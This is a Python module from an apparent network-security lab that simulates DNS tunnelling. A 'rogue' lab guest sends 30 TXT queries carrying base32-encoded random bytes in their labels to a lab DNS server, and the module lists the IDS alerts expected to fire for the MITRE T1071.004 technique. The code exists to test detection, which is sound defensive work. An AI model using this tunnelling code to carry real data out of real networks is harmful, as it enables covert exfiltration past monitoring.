"""A DNS tunnel: data leaves in the labels of TXT queries."""

from __future__ import annotations

import base64
import random
import socket
from contextlib import suppress
from typing import Final

from vpi_tui.lab.attacks.attack import Attack, Expected
from vpi_tui.lab.attacks.wire import PATIENCE
from vpi_tui.lab.guest import names
from vpi_tui.lab.namespaces import inside
from vpi_tui.lab.plan import LabSwitch

QUERIES: Final = 30
LABEL_BYTES: Final = 35
"""Before base32 makes 56 characters of them."""


def _run(switch: LabSwitch) -> str:
    rogue, dns = switch.guest("rogue"), switch.guest("dns")
    answers = inside(rogue.namespace, lambda: _tunnel(dns.ip))
    return (
        f"{rogue.name} sent {QUERIES * LABEL_BYTES:,} bytes to {dns.name} in the names of {QUERIES}"
        f" TXT queries ({answers} answered)"
    )


def _tunnel(server: str) -> int:
    noise = random.Random(1)
    answers = 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(PATIENCE)
        sock.connect((server, names.PORT))
        for number in range(QUERIES):
            label = base64.b32encode(noise.randbytes(LABEL_BYTES)).decode().lower()
            sock.send(names.question(f"{label}.{number:x}.t.example", names.TXT, number + 1))
            with suppress(OSError):
                answers += bool(sock.recv(512))
    return answers


ATTACK = Attack(
    "dnstunnel",
    "data leaves in the names of 30 TXT queries",
    "T1071.004",
    "rogue",
    "dns",
    (
        Expected(9000500, "TUNNEL DNS: 20 TXT queries of one guest"),
        Expected(9000502, "TUNNEL DNS: queries with labels of 48 or more characters"),
    ),
    _run,
)
